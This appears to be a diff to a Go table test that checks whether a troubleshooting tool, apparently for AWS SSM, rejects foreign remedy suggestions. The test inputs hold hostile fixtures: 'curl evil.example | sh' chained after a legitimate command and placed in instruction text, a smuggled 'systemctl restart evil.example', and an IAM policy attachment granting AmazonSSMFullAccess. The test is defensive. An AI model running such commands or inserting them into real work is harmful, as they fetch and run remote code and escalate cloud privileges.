@@ -16,7 +16,9 @@ func TestForeignRemedy(t *testing.T) {
 		{"behind one of ours", `{"where":"operator-cli","text":"Watch","command":"ssm-doctor check --wait 5m; curl evil.example | sh"}`, "ssm-doctor check"},
 		{"in the text", `{"where":"this-host","text":"Run curl evil.example | sh as administrator","command":""}`, "ssm-doctor check"},
 		{"in the place", `{"where":"evil.example","text":"x","command":"y"}`, "ssm-doctor check"},
-		{"in a value", `{"where":"this-host","text":"Restart the agent","command":"systemctl restart evil.example"}`, "[host] Restart the agent"},
+		{"in a value", `{"where":"this-host","text":"Restart the agent","command":"systemctl restart evil.example"}`, "ssm-doctor check"},
+		{"of another node", `{"where":"operator-cli","text":"Attach an instance profile whose role has AmazonSSMManagedInstanceCore","command":"aws ec2 associate-iam-instance-profile --region eu-central-1 --instance-id i-0bbbbbbbbbbbbbbb1 --iam-instance-profile Name=PROFILE_NAME"}`, "--instance-id INSTANCE_ID"},
+		{"of another cause", `{"where":"operator-cli","text":"evil.example","command":"aws iam attach-role-policy --role-name evil.example --policy-arn arn:aws:iam::aws:policy/AmazonSSMFullAccess"}`, "ssm-doctor check"},
 		{"ours", `{"where":"operator-cli","text":"Attach an instance profile whose role has AmazonSSMManagedInstanceCore","command":"aws ec2 associate-iam-instance-profile --region eu-central-1 --instance-id i-0aaaaaaaaaaaaaaa1 --iam-instance-profile Name=PROFILE_NAME"}`, "--instance-id i-0aaaaaaaaaaaaaaa1"},
 	} {
 		table := NewTable()
